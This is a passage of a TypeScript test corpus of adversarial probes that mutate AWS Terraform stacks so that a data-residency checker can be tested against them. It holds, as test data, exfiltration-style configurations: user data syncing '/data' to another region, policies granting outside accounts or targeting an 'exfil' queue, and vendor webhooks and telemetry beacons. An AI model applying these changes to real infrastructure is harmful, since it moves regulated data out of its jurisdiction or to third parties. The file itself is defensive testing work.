/**
 * The adversarial residency corpus: each probe changes a copy of one stack of the kit's real
 * default synth, the way an attacker or a careless engineer would, with AWS provider 5.x resources.
 * `violation` probes must fail a residency rule; `legitimate` ones (in-jurisdiction replication,
 * prose, the designed crossings) must pass every residency rule.
 *
 * Regions of the default manifest: us (us-west-2 / us-east-2, 111111111111, shares central's
 * account and AWS region), eu (eu-central-1 / eu-west-1, 222222222222), jp (ap-northeast-1 / -3,
 * 333333333333), kr (ap-northeast-2, 444444444444). Most probes go into data-eu.
 */

import { gzipSync } from "node:zlib";

export type Json = Record<string, any>;

export interface Probe {
  readonly name: string;
  /** What the probe exercises (the issue's families). */
  readonly family: string;
  readonly stack: string;
  readonly kind: "violation" | "legitimate";
  /** Resources to add: `{ type: { name: attrs } }`. */
  readonly add?: Record<string, Record<string, Json>>;
  /** Any other change to the stack JSON (providers, backend, existing resources). */
  readonly mutate?: (json: Json) => void;
}

const doc = (statements: Json[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
const r = (type: string, name: string, attrs: Json): Record<string, Record<string, Json>> => ({ [type]: { [name]: attrs } });
const merge = (...parts: Array<Record<string, Record<string, Json>>>) => {
  const out: Record<string, Record<string, Json>> = {};
  for (const p of parts) for (const [t, byName] of Object.entries(p)) out[t] = { ...(out[t] ?? {}), ...byName };
  return out;
};

/** The address of the first resource of `type` whose attributes satisfy `test`. */
export function find(json: Json, type: string, test: (attrs: Json) => boolean = () => true): [string, Json] {
  const hit = Object.entries((json.resource?.[type] ?? {}) as Record<string, Json>).find(([, a]) => test(a));
  if (!hit) throw new Error(`no ${type} in the stack`);
  return hit;
}

const addProvider = (json: Json, name: string, block: Json) => {
  json.provider[name] = [...(json.provider[name] ?? []), block];
};
const setConnector = (json: Json, patch: Json) => {
  const [, c] = find(json, "aws_mskconnect_connector");
  Object.assign(c.connector_configuration, patch);
};
const rolePolicy = (role: string, statements: Json[]) => (json: Json) => {
  const [address] = find(json, "aws_iam_role", (a) => a.name === role);
  json.resource.aws_iam_role_policy.Injected = { name: "injected", role: `\${aws_iam_role.${address}.id}`, policy: doc(statements) };
};
const EU = "222222222222";
const RAW = `rk-eu-lake-raw-${EU}`;
const SANITIZED = `rk-eu-lake-sanitized-${EU}`;
const LOGS = `rk-eu-lake-logs-${EU}`;
const BACKUP_RAW = `rk-eu-lake-raw-backup-${EU}`;
const kafkaManifest = (kind: string, spec: Json, apiVersion = "kafka.strimzi.io/v1beta2") => r("kubernetes_manifest", "Injected", { manifest: { apiVersion, kind, metadata: { name: "injected", namespace: "cdc" }, spec } });

/** Point the edge worker's ROUTES table at `url` for `region`. */
const setRoute = (json: Json, region: string, url: string) => {
  const [, script] = find(json, "cloudflare_workers_script");
  const binding = script.bindings.find((b: Json) => b.name === "ROUTES");
  const routes = JSON.parse(binding.json);
  routes.endpoints[region] = url;
  binding.json = JSON.stringify(routes);
};

const V = (family: string, name: string, stack: string, change: Omit<Probe, "name" | "family" | "stack" | "kind">): Probe => ({ name, family, stack, kind: "violation", ...change });
const L = (family: string, name: string, stack: string, change: Omit<Probe, "name" | "family" | "stack" | "kind">): Probe => ({ name, family, stack, kind: "legitimate", ...change });

export const PROBES: readonly Probe[] = [
  // ---- placement: providers, nested region arguments, backend ----------------------------------
  V("placement", "provider alias with a variable region", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "dr", region: "${var.dr_region}" }),
    add: r("aws_sqs_queue", "Dr", { name: "rk-eu-dr", provider: "aws.dr" }),
  }),
  V("placement", "provider alias with a local region", "data-eu", { mutate: (j) => addProvider(j, "aws", { alias: "x", region: "${local.region}" }) }),
  V("placement", "provider alias with a function-built region", "data-eu", { mutate: (j) => addProvider(j, "aws", { alias: "x", region: '${lower("US-EAST-1")}' }) }),
  V("placement", "provider alias without region (environment decides)", "data-eu", { mutate: (j) => addProvider(j, "aws", { alias: "x" }), add: r("aws_s3_bucket", "X", { bucket: "rk-eu-x-222222222222", provider: "aws.x" }) }),
  V("placement", "provider alias in another jurisdiction's region", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "us", region: "us-east-1" }),
    add: r("aws_s3_bucket", "Us", { bucket: "rk-eu-copy-222222222222", provider: "aws.us" }),
  }),
  V("placement", "provider alias in London (not EU)", "data-eu", { mutate: (j) => addProvider(j, "aws", { alias: "uk", region: "eu-west-2" }) }),
  V("placement", "default provider moved to GovCloud", "data-eu", { mutate: (j) => (j.provider.aws[0].region = "us-gov-west-1") }),
  V("placement", "backend state in another region", "data-eu", { mutate: (j) => (j.terraform.backend.s3.region = "us-east-1") }),
  V("placement", "backend state in another region's state bucket", "data-eu", { mutate: (j) => (j.terraform.backend.s3.bucket = "rk-tfstate-111111111111-us-west-2") }),
  V("placement", "state in HCP Terraform", "data-eu", {
    mutate: (j) => {
      delete j.terraform.backend;
      j.terraform.cloud = { organization: "acme", workspaces: { name: "data-eu" } };
    },
  }),
  V("placement", "state in a GCS backend", "data-eu", { mutate: (j) => (j.terraform.backend = { gcs: { bucket: "tf-state", prefix: "data-eu" } }) }),
  V("placement", "provider endpoint override to a vendor proxy", "data-eu", { mutate: (j) => (j.provider.aws[0].endpoints = [{ s3: "https://s3-proxy.vendor.io" }]) }),
  V("placement", "DynamoDB global table replica in another jurisdiction", "data-eu", { add: r("aws_dynamodb_table", "T", { name: "rk-eu-t", hash_key: "id", attribute: [{ name: "id", type: "S" }], replica: [{ region_name: "us-east-1" }] }) }),
  V("placement", "DynamoDB replica region from a variable", "data-eu", { add: r("aws_dynamodb_table", "T", { name: "rk-eu-t", hash_key: "id", attribute: [{ name: "id", type: "S" }], replica: [{ region_name: "${var.replica_region}" }] }) }),
  V("placement", "Secrets Manager replica in London", "data-eu", { add: r("aws_secretsmanager_secret", "S", { name: "rk-eu-s", replica: [{ region: "eu-west-2" }] }) }),
  V("placement", "ECR replication rule to another region", "data-eu", {
    add: r("aws_ecr_replication_configuration", "R", { replication_configuration: { rule: [{ destination: [{ region: "us-east-1", registry_id: EU }] }] } }),
  }),
  V("placement", "Redshift snapshot copy to another region", "data-eu", { add: r("aws_redshift_snapshot_copy", "C", { cluster_identifier: "rk-eu-dw", destination_region: "us-west-2" }) }),
  V("placement", "data source read through another region's provider", "cdc-eu", {
    mutate: (j) => {
      addProvider(j, "aws", { alias: "us", region: "us-west-2" });
      j.data.aws_msk_cluster.Foreign = { cluster_name: "rk-us-kafka", provider: "aws.us" };
    },
  }),
  V("placement", "VPC endpoint service_region in another region", "data-eu", {
    add: r("aws_vpc_endpoint", "E", { vpc_id: "vpc-1", service_name: "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0", service_region: "us-east-1", vpc_endpoint_type: "Interface" }),
  }),
  V("placement", "EBS snapshot copied in from another jurisdiction", "data-eu", { add: r("aws_ebs_snapshot_copy", "C", { source_snapshot_id: "snap-0123456789abcdef0", source_region: "us-east-1", encrypted: true }) }),
  V("placement", "DLM cross-region copy rule to another region", "data-eu", {
    add: r("aws_dlm_lifecycle_policy", "P", {
      description: "copies",
      execution_role_arn: `arn:aws:iam::${EU}:role/rk-eu-dlm`,
      policy_details: { resource_types: ["VOLUME"], target_tags: { a: "b" }, schedule: [{ name: "s", create_rule: { interval: 24 }, retain_rule: { count: 7 }, cross_region_copy_rule: [{ target: "ap-southeast-2", encrypted: true, retain_rule: { interval: 7, interval_unit: "DAYS" } }] }] },
    }),
  }),

  // ---- references: region codes, accounts, partitions anywhere --------------------------------
  V("reference", "http data source posting to a vendor", "data-eu", { mutate: (j) => (j.data = { ...(j.data ?? {}), http: { Beacon: { url: "https://telemetry.vendor.io/collect?region=eu", method: "POST" } } }) }),
  V("reference", "SQS URL of another region in an SSM parameter", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: `https://sqs.us-east-1.amazonaws.com/${EU}/q` }) }),
  V("reference", "upper-case region code", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "EU-WEST-2" }) }),
  V("reference", "MSK bootstrap host of another region", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "b-1.other.abc123.c2.kafka.us-east-1.amazonaws.com:9098" }) }),
  V("reference", "\\u-escaped region inside a JSON policy", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "sqs:SendMessage", Resource: "arn:aws:sqs:\\u0075s-east-1:222222222222:q" }]) }),
  V("reference", "another account's queue in an identity policy", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "sqs:SendMessage", Resource: "arn:aws:sqs:eu-central-1:999999999999:exfil" }]) }),
  V("reference", "GovCloud partition ARN", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws-us-gov:s3:::drop/*" }]) }),
  V("reference", "China partition ARN", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "kinesis:PutRecord", Resource: "arn:aws-cn:kinesis:cn-north-1:123456789012:stream/s" }]) }),
  V("reference", "base64 user data copying to another region", "data-eu", {
    mutate: (j) => {
      const [, lt] = find(j, "aws_launch_template");
      lt.user_data = Buffer.from("#!/bin/bash\naws s3 sync /data s3://mirror --region us-east-1\n").toString("base64");
    },
  }),
  V("reference", "ECS container logs to another region", "data-eu", {
    add: r("aws_ecs_task_definition", "T", {
      family: "rk-eu-t",
      container_definitions: JSON.stringify([{ name: "app", image: `${EU}.dkr.ecr.eu-central-1.amazonaws.com/app:1`, logConfiguration: { logDriver: "awslogs", options: { "awslogs-region": "us-east-1", "awslogs-group": "g" } } }]),
    }),
  }),
  V("reference", "percent-encoded region in a URL", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "https://s3.us%2Deast%2D1.amazonaws.com/b" }) }),
  V("reference", "region built by join()", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: '${join("-", ["us", "east", "1"])}' }) }),
  V("reference", "output naming another region's bucket", "data-eu", { mutate: (j) => (j.output = { x: { value: "arn:aws:s3:us-west-2:111111111111:accesspoint/ap" } }) }),
  V("reference", "locals naming another region", "data-eu", { mutate: (j) => (j.locals = { mirror: "ap-southeast-1" }) }),
  V("reference", "EKS add-on configuration naming another region", "data-eu", {
    mutate: (j) => {
      const [, addon] = find(j, "aws_eks_addon");
      addon.configuration_values = JSON.stringify({ env: { AWS_REGION: "us-east-1" } });
    },
  }),
  V("reference", "central naming a region outside the manifest", "central", { add: r("aws_ssm_parameter", "P", { name: "/rk/central/x", type: "String", value: "arn:aws:sns:ap-south-1:111111111111:t" }) }),
  V("reference", "another region's account id inside a bucket name", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "rk-kr-lake-raw-444444444444" }) }),
  V("reference", "region code of a new region outside the catalog", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "https://sqs.ap-east-3.amazonaws.com/1/q" }) }),

  // ---- principals -------------------------------------------------------------------------------
  V("principal", "bucket policy granting a vendor account", "data-eu", {
    mutate: (j) => {
      const [, p] = find(j, "aws_s3_bucket_policy");
      const d = JSON.parse(p.policy);
      d.Statement.push({ Sid: "Vendor", Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` });
      p.policy = JSON.stringify(d);
    },
  }),
  V("principal", "bucket policy Principal * with only an organisation condition", "data-eu", {
    add: r("aws_s3_bucket_policy", "Org", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { StringEquals: { "aws:PrincipalOrgID": "o-abc123" } } }]) }),
  }),
  V("principal", "bucket policy Principal AWS * unbounded", "data-eu", { add: r("aws_s3_bucket_policy", "Any", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { AWS: "*" }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }) }),
  V("principal", "bucket policy NotPrincipal Allow", "data-eu", {
    add: r("aws_s3_bucket_policy", "Not", { bucket: RAW, policy: doc([{ Effect: "Allow", NotPrincipal: { AWS: `arn:aws:iam::${EU}:root` }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  }),
  V("principal", "KMS key policy granting a central role", "data-eu", {
    mutate: (j) => {
      const [, k] = find(j, "aws_kms_key", (a) => typeof a.policy === "string");
      const d = JSON.parse(k.policy);
      d.Statement.push({ Effect: "Allow", Principal: { AWS: "arn:aws:iam::111111111111:role/rk-central-airflow-execution" }, Action: "kms:Decrypt", Resource: "*" });
      k.policy = JSON.stringify(d);
    },
  }),
  V("principal", "KMS grant to another account", "data-eu", { add: r("aws_kms_grant", "G", { name: "g", key_id: "k", grantee_principal: "arn:aws:iam::999999999999:role/vendor", operations: ["Decrypt"] }) }),
  V("principal", "AOSS data access for another account", "data-eu", {
    add: r("aws_opensearchserverless_access_policy", "A", {
      name: "rk-eu-vendor",
      type: "data",
      policy: JSON.stringify([{ Rules: [{ ResourceType: "index", Resource: ["index/rk-eu-vectors/*"], Permission: ["aoss:ReadDocument"] }], Principal: ["arn:aws:iam::999999999999:role/reader"] }]),
    }),
  }),
  V("principal", "OpenSearch domain policy open to everyone", "data-eu", {
    add: r("aws_opensearch_domain_policy", "P", { domain_name: "rk-eu-search", access_policies: doc([{ Effect: "Allow", Principal: { AWS: "*" }, Action: "es:ESHttpGet", Resource: `arn:aws:es:eu-central-1:${EU}:domain/rk-eu-search/*` }]) }),
  }),
  V("principal", "new role trusting another account", "data-eu", {
    add: r("aws_iam_role", "Vendor", { name: "rk-eu-vendor", assume_role_policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "sts:AssumeRole" }]) }),
  }),
  V("principal", "new role trusting a variable principal", "data-eu", {
    add: r("aws_iam_role", "Partner", { name: "rk-eu-partner", assume_role_policy: doc([{ Effect: "Allow", Principal: { AWS: "${var.partner_arn}" }, Action: "sts:AssumeRole" }]) }),
  }),
  V("principal", "web identity federation from Google", "data-eu", {
    add: r("aws_iam_role", "Web", { name: "rk-eu-web", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: "accounts.google.com" }, Action: "sts:AssumeRoleWithWebIdentity" }]) }),
  }),
  V("principal", "secret policy granting central", "data-eu", {
    add: r("aws_secretsmanager_secret_policy", "P", { secret_arn: "arn:aws:secretsmanager:eu-central-1:222222222222:secret:x", policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::111111111111:role/rk-central-airflow-execution" }, Action: "secretsmanager:GetSecretValue", Resource: "*" }]) }),
  }),
  V("principal", "SQS queue policy for the whole organisation", "data-eu", {
    add: r("aws_sqs_queue_policy", "P", { queue_url: "https://sqs.eu-central-1.amazonaws.com/222222222222/q", policy: doc([{ Effect: "Allow", Principal: "*", Action: "sqs:ReceiveMessage", Resource: "*", Condition: { StringEquals: { "aws:SourceOrgID": "o-abc123" } } }]) }),
  }),
  V("principal", "Lambda permission for another account", "data-eu", { add: r("aws_lambda_permission", "P", { statement_id: "x", action: "lambda:InvokeFunction", function_name: "f", principal: "999999999999" }) }),
  V("principal", "ECR repository policy for another account", "data-eu", {
    add: r("aws_ecr_repository_policy", "P", { repository: "rk-eu-cdc-connect", policy: doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::333333333333:root" }, Action: "ecr:BatchGetImage" }]) }),
  }),
  V("principal", "SNS topic policy for another account's service source", "data-eu", {
    add: merge(
      r("aws_sns_topic", "T", { name: "rk-eu-alerts" }),
      r("aws_sns_topic_policy", "P", { arn: "${aws_sns_topic.T.arn}", policy: doc([{ Effect: "Allow", Principal: "*", Action: "sns:Subscribe", Resource: "*", Condition: { ArnLike: { "aws:SourceArn": "arn:aws:s3:::vendor-bucket" } } }]) }),
    ),
  }),
  V("principal", "S3 canonical user grant", "data-eu", {
    add: r("aws_s3_bucket_policy", "Canon", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { CanonicalUser: "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be" }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  }),
  V("principal", "policy document data source granting another account", "data-eu", {
    mutate: (j) => {
      j.data = { ...(j.data ?? {}), aws_iam_policy_document: { Vendor: { statement: [{ effect: "Allow", actions: ["s3:GetObject"], resources: [`arn:aws:s3:::${RAW}/*`], principals: [{ type: "AWS", identifiers: ["arn:aws:iam::999999999999:root"] }] }] } } };
    },
  }),

  // ---- cross-boundary roles ----------------------------------------------------------------------
  V("cross-boundary", "warehouse-read widened to the raw lake", "data-eu", { mutate: rolePolicy("rk-eu-warehouse-read", [{ Effect: "Allow", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  V("cross-boundary", "warehouse-read widened to the whole sanitized bucket", "data-eu", {
    mutate: (j) => {
      const [, p] = find(j, "aws_iam_role_policy", (a) => a.policy.includes("ReadExport"));
      p.policy = p.policy.replace("/export/*", "/*");
    },
  }),
  V("cross-boundary", "warehouse-read listing without a prefix condition", "data-eu", {
    mutate: (j) => {
      const [, p] = find(j, "aws_iam_role_policy", (a) => a.policy.includes("ListExport"));
      const d = JSON.parse(p.policy);
      for (const st of d.Statement) if (st.Sid === "ListExport") delete st.Condition;
      p.policy = JSON.stringify(d);
    },
  }),
  V("cross-boundary", "warehouse-read trust without external id", "data-eu", {
    mutate: (j) => {
      const [, role] = find(j, "aws_iam_role", (a) => a.name === "rk-eu-warehouse-read");
      const d = JSON.parse(role.assume_role_policy);
      delete d.Statement[0].Condition;
      role.assume_role_policy = JSON.stringify(d);
    },
  }),
  V("cross-boundary", "orchestrator-access with elasticmapreduce:*", "data-eu", { mutate: rolePolicy("rk-eu-orchestrator-access", [{ Effect: "Allow", Action: "elasticmapreduce:*", Resource: "*" }]) }),
  V("cross-boundary", "orchestrator-access reading the lake", "data-eu", { mutate: rolePolicy("rk-eu-orchestrator-access", [{ Effect: "Allow", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  V("cross-boundary", "orchestrator-access allowed everything but IAM (NotAction)", "data-eu", { mutate: rolePolicy("rk-eu-orchestrator-access", [{ Effect: "Allow", NotAction: "iam:*", Resource: "*" }]) }),
  V("cross-boundary", "orchestrator-access given AdministratorAccess", "data-eu", {
    mutate: (j) => {
      const [address] = find(j, "aws_iam_role", (a) => a.name === "rk-eu-orchestrator-access");
      j.resource.aws_iam_role_policy_attachment.Admin = { role: `\${aws_iam_role.${address}.name}`, policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" };
    },
  }),
  V("cross-boundary", "orchestrator-access trusting another account", "data-eu", {
    mutate: (j) => {
      const [, role] = find(j, "aws_iam_role", (a) => a.name === "rk-eu-orchestrator-access");
      role.assume_role_policy = doc([{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "sts:AssumeRole" }]);
    },
  }),
  V("cross-boundary", "orchestrator-access passing any role", "data-eu", { mutate: rolePolicy("rk-eu-orchestrator-access", [{ Effect: "Allow", Action: "iam:PassRole", Resource: `arn:aws:iam::${EU}:role/*` }]) }),

  // ---- movers -----------------------------------------------------------------------------------
  V("mover", "SNS email subscription", "data-eu", { add: r("aws_sns_topic_subscription", "S", { topic_arn: `arn:aws:sns:eu-central-1:${EU}:t`, protocol: "email", endpoint: "ops@example.com" }) }),
  V("mover", "SNS HTTPS subscription to a vendor", "data-eu", { add: r("aws_sns_topic_subscription", "S", { topic_arn: `arn:aws:sns:eu-central-1:${EU}:t`, protocol: "https", endpoint: "https://hooks.vendor.io/ingest" }) }),
  V("mover", "SNS subscription to a queue in another region", "data-eu", { add: r("aws_sns_topic_subscription", "S", { topic_arn: `arn:aws:sns:eu-central-1:${EU}:t`, protocol: "sqs", endpoint: `arn:aws:sqs:us-east-1:${EU}:q` }) }),
  V("mover", "SNS subscription to another account's Lambda", "data-eu", { add: r("aws_sns_topic_subscription", "S", { topic_arn: `arn:aws:sns:eu-central-1:${EU}:t`, protocol: "lambda", endpoint: "arn:aws:lambda:eu-central-1:999999999999:function:f" }) }),
  V("mover", "SNS SMS subscription", "data-eu", { add: r("aws_sns_topic_subscription", "S", { topic_arn: `arn:aws:sns:eu-central-1:${EU}:t`, protocol: "sms", endpoint: "+15555550100" }) }),
  V("mover", "EventBridge target on another region's bus", "data-eu", { add: r("aws_cloudwatch_event_target", "T", { rule: "r", arn: `arn:aws:events:us-east-1:${EU}:event-bus/default`, role_arn: `arn:aws:iam::${EU}:role/rk-eu-events` }) }),
  V("mover", "EventBridge target from a variable", "data-eu", { add: r("aws_cloudwatch_event_target", "T", { rule: "r", arn: "${var.target_arn}" }) }),
  V("mover", "EventBridge API destination to a vendor", "data-eu", {
    add: r("aws_cloudwatch_event_api_destination", "D", { name: "d", invocation_endpoint: "https://api.vendor.io/events", http_method: "POST", connection_arn: `arn:aws:events:eu-central-1:${EU}:connection/c/1` }),
  }),
  V("mover", "S3 notification to another region's queue", "data-eu", { add: r("aws_s3_bucket_notification", "N", { bucket: RAW, queue: [{ queue_arn: `arn:aws:sqs:us-west-2:${EU}:q`, events: ["s3:ObjectCreated:*"] }] }) }),
  V("mover", "S3 notification to another account's Lambda", "data-eu", { add: r("aws_s3_bucket_notification", "N", { bucket: RAW, lambda_function: [{ lambda_function_arn: "arn:aws:lambda:eu-central-1:999999999999:function:f", events: ["s3:ObjectCreated:*"] }] }) }),
  V("mover", "Multi-Region Access Point over the lake", "data-eu", {
    add: r("aws_s3control_multi_region_access_point", "M", { details: { name: "rk-eu-mrap", region: [{ bucket: RAW }, { bucket: "rk-us-lake-raw-111111111111" }] } }),
  }),
  V("mover", "Glue job writing temp data to a vendor bucket", "data-eu", {
    add: r("aws_glue_job", "J", { name: "j", role_arn: `arn:aws:iam::${EU}:role/rk-eu-glue`, command: { script_location: `s3://rk-eu-spark-artifacts-${EU}/j.py` }, default_arguments: { "--TempDir": "s3://vendor-scratch/tmp/" } }),
  }),
  V("mover", "Glue JDBC connection to an external database", "data-eu", {
    add: r("aws_glue_connection", "C", { name: "c", connection_properties: { JDBC_CONNECTION_URL: "jdbc:postgresql://db.vendor.io:5432/x", USERNAME: "u" } }),
  }),
  V("mover", "Glue crawler over an unknown bucket", "data-eu", { add: r("aws_glue_crawler", "C", { name: "c", role: "r", database_name: "d", s3_target: [{ path: "s3://shared-datasets/x/" }] }) }),
  V("mover", "Athena results to an unknown bucket", "data-eu", {
    add: r("aws_athena_workgroup", "W", { name: "w", configuration: { result_configuration: { output_location: "s3://athena-results-shared/q/" } } }),
  }),
  V("mover", "Athena data catalog Lambda in another region", "data-eu", {
    add: r("aws_athena_data_catalog", "C", { name: "c", type: "LAMBDA", description: "x", parameters: { function: `arn:aws:lambda:us-east-1:${EU}:function:f` } }),
  }),
  V("mover", "DataSync task to an unknown bucket", "data-eu", {
    add: merge(
      r("aws_datasync_location_s3", "Dst", { s3_bucket_arn: "arn:aws:s3:::migration-target", subdirectory: "/x", s3_config: { bucket_access_role_arn: `arn:aws:iam::${EU}:role/rk-eu-ds` } }),
      r("aws_datasync_task", "T", { source_location_arn: `arn:aws:datasync:eu-central-1:${EU}:location/loc-1`, destination_location_arn: "${aws_datasync_location_s3.Dst.arn}" }),
    ),
  }),
  V("mover", "DataSync to an external object store", "data-eu", { add: r("aws_datasync_location_object_storage", "O", { server_hostname: "storage.vendor.io", bucket_name: "b", agent_arns: [] }) }),
  V("mover", "DMS endpoint to an external database", "data-eu", { add: r("aws_dms_endpoint", "E", { endpoint_id: "e", endpoint_type: "target", engine_name: "postgres", server_name: "pg.vendor.io", port: 5432 }) }),
  V("mover", "DMS S3 target in an unknown bucket", "data-eu", { add: r("aws_dms_s3_endpoint", "E", { endpoint_id: "e", endpoint_type: "target", bucket_name: "dms-landing", service_access_role_arn: `arn:aws:iam::${EU}:role/rk-eu-dms` }) }),
  V("mover", "DMS Kafka target outside", "data-eu", { add: r("aws_dms_endpoint", "K", { endpoint_id: "k", endpoint_type: "target", engine_name: "kafka", kafka_settings: { broker: "kafka.vendor.io:9092", topic: "t" } }) }),
  V("mover", "Route 53 query logs to us-east-1", "data-eu", { add: r("aws_route53_query_log", "Q", { zone_id: "Z1", cloudwatch_log_group_arn: `arn:aws:logs:us-east-1:${EU}:log-group:/aws/route53/x` }) }),
  V("mover", "ElastiCache global datastore member in another region", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "far", region: "ap-southeast-1" }),
    add: merge(
      r("aws_elasticache_global_replication_group", "G", { global_replication_group_id_suffix: "g", primary_replication_group_id: "rk-eu-cache" }),
      r("aws_elasticache_replication_group", "Far", { provider: "aws.far", replication_group_id: "rk-eu-cache-far", description: "secondary", global_replication_group_id: "${aws_elasticache_global_replication_group.G.global_replication_group_id}" }),
    ),
  }),
  V("mover", "VPC endpoint to another region's service", "data-eu", { add: r("aws_vpc_endpoint", "E", { vpc_id: "vpc-1", service_name: "com.amazonaws.us-east-1.s3", vpc_endpoint_type: "Gateway" }) }),
  V("mover", "Bedrock cross-region inference profile", "data-eu", {
    add: r("aws_bedrock_inference_profile", "P", { name: "p", model_source: { copy_from: "arn:aws:bedrock:eu-central-1::inference-profile/eu.anthropic.claude-3-5-sonnet-20240620-v1:0" } }),
  }),
  V("mover", "Bedrock agent on a global inference profile", "data-eu", {
    add: r("aws_bedrockagent_agent", "A", { agent_name: "a", agent_resource_role_arn: `arn:aws:iam::${EU}:role/rk-eu-agent`, foundation_model: "global.anthropic.claude-sonnet-4-20250514-v1:0" }),
  }),
  V("mover", "VPC peering accepter of a foreign connection", "data-eu", { add: r("aws_vpc_peering_connection_accepter", "A", { vpc_peering_connection_id: "pcx-0123456789abcdef0", auto_accept: true }) }),
  V("mover", "VPC peering to another region", "data-eu", { add: r("aws_vpc_peering_connection", "P", { vpc_id: "vpc-1", peer_vpc_id: "vpc-2", peer_region: "us-west-2" }) }),
  V("mover", "transit gateway peering to another account", "data-eu", {
    add: r("aws_ec2_transit_gateway_peering_attachment", "P", { transit_gateway_id: "tgw-1", peer_transit_gateway_id: "tgw-2", peer_region: "eu-west-1", peer_account_id: "999999999999" }),
  }),
  V("mover", "inline bucket replication to another region's bucket", "data-eu", {
    add: r("aws_s3_bucket", "Legacy", {
      bucket: "rk-eu-legacy-222222222222",
      replication_configuration: { role: `arn:aws:iam::${EU}:role/r`, rules: [{ id: "all", status: "Enabled", destination: { bucket: "arn:aws:s3:::rk-us-lake-raw-111111111111" } }] },
    }),
  }),
  V("mover", "bucket replication to an unknown bucket", "data-eu", {
    add: r("aws_s3_bucket_replication_configuration", "R", { bucket: RAW, role: `arn:aws:iam::${EU}:role/r`, rule: [{ id: "all", status: "Enabled", destination: { bucket: "arn:aws:s3:::dr-copies" } }] }),
  }),
  V("mover", "Firehose to an HTTP endpoint", "data-eu", {
    add: r("aws_kinesis_firehose_delivery_stream", "F", { name: "f", destination: "http_endpoint", http_endpoint_configuration: { url: "https://collector.vendor.io", name: "v", role_arn: "r", s3_configuration: { role_arn: "r", bucket_arn: `arn:aws:s3:::${LOGS}` } } }),
  }),
  V("mover", "Firehose to an unknown bucket", "data-eu", { add: r("aws_kinesis_firehose_delivery_stream", "F", { name: "f", destination: "extended_s3", extended_s3_configuration: { role_arn: "r", bucket_arn: "arn:aws:s3:::firehose-sink" } }) }),
  V("mover", "Firehose to Splunk", "data-eu", {
    add: r("aws_kinesis_firehose_delivery_stream", "F", { name: "f", destination: "splunk", splunk_configuration: { hec_endpoint: "https://splunk.vendor.io:8088", hec_token: "t", s3_configuration: { role_arn: "r", bucket_arn: `arn:aws:s3:::${LOGS}` } } }),
  }),
  V("mover", "log subscription to another account's destination", "data-eu", {
    add: r("aws_cloudwatch_log_subscription_filter", "S", { name: "s", log_group_name: "/rk/eu/x", filter_pattern: "", destination_arn: "arn:aws:logs:eu-central-1:999999999999:destination:central" }),
  }),
  V("mover", "flow logs to an unknown bucket", "data-eu", { add: r("aws_flow_log", "F", { vpc_id: "vpc-1", traffic_type: "ALL", log_destination_type: "s3", log_destination: "arn:aws:s3:::netops-flowlogs" }) }),
  V("mover", "Lambda sending to a vendor URL", "data-eu", {
    add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "h", runtime: "python3.12", filename: "f.zip", environment: { variables: { WEBHOOK: "https://hooks.vendor.io/x" } } }),
  }),
  V("mover", "Lambda reading an external Kafka", "data-eu", {
    add: r("aws_lambda_event_source_mapping", "M", { function_name: "f", topics: ["t"], self_managed_event_source: { endpoints: { KAFKA_BOOTSTRAP_SERVERS: "kafka1.vendor.io:9092,kafka2.vendor.io:9092" } }, starting_position: "TRIM_HORIZON" }),
  }),
  V("mover", "Lambda destination in another region", "data-eu", {
    add: r("aws_lambda_function_event_invoke_config", "C", { function_name: "f", destination_config: { on_success: { destination: `arn:aws:sqs:us-east-1:${EU}:q` } } }),
  }),
  V("mover", "Step Functions task writing to another region", "data-eu", {
    add: r("aws_sfn_state_machine", "S", { name: "s", role_arn: `arn:aws:iam::${EU}:role/rk-eu-sfn`, definition: JSON.stringify({ StartAt: "A", States: { A: { Type: "Task", Resource: "arn:aws:states:::sqs:sendMessage", Parameters: { QueueUrl: "https://sqs.us-east-1.amazonaws.com/222222222222/q" }, End: true } } }) }),
  }),
